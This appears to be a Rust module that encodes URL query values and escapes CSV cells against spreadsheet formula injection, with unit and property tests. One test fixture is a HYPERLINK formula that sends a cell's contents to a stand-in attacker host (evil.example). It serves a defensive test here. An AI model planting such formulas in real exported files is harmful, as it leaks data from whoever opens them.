//! Writing values into URLs and into CSV cells.

use std::borrow::Cow;

/// `text` as a URL query value: everything but RFC 3986's unreserved
/// characters and `/` percent-encoded.
pub fn query_value(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' | b'/' => {
                (b as char).to_string()
            }
            other => format!("%{other:02X}"),
        })
        .collect()
}

/// Characters that make a spreadsheet read a cell as a formula (or, for
/// tab, CR and LF, that spreadsheets skip before such a character): `=`,
/// `+`, `-`, `@`, tab, carriage return and line feed (OWASP's advice on CSV
/// injection).
pub const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\n'];

/// `text` as a CSV cell that no spreadsheet runs as a formula: a value
/// starting with one of [`FORMULA_STARTS`] gets a leading `'`, and so does a
/// value that already starts with `'`, so the change can be undone
/// ([`csv_text_read`]: take one leading `'` off any cell that has one).
/// Every CSV Gatehouse writes uses this rule.
pub fn csv_text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) || text.starts_with('\'') {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The value a cell written by [`csv_text`] was made from.
pub fn csv_text_read(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::{csv_text, csv_text_read, FORMULA_STARTS};

    #[test]
    fn a_cell_that_would_be_a_formula_starts_with_a_quote_and_reads_back() {
        for (value, cell) in [
            (
                r#"=HYPERLINK("http://evil.example/?"&A2,"Open")"#,
                r#"'=HYPERLINK("http://evil.example/?"&A2,"Open")"#,
            ),
            ("+1", "'+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\n=1", "'\n=1"),
            ("'quoted", "''quoted"),
            ("''", "'''"),
            ("plain", "plain"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_text(value), cell, "{value:?}");
            assert_eq!(csv_text_read(&csv_text(value)), value);
        }
    }

    proptest::proptest! {
        #[test]
        fn every_value_reads_back_and_no_cell_starts_a_formula(value in "[='+@\\-\t\r\na-z]{0,6}") {
            let cell = csv_text(&value);
            proptest::prop_assert!(!cell.starts_with(FORMULA_STARTS));
            proptest::prop_assert_eq!(csv_text_read(&cell), value.as_str());
        }
    }

    #[test]
    fn reserved_and_control_characters_are_encoded() {
        assert_eq!(
            super::query_value("/approvals?tab=history&x=1"),
            "/approvals%3Ftab%3Dhistory%26x%3D1"
        );
        assert_eq!(super::query_value("/\t/evil"), "/%09/evil");
        assert_eq!(
            super::query_value("2026-11-30T10:00:00+00:00~ab"),
            "2026-11-30T10%3A00%3A00%2B00%3A00~ab"
        );
    }
}
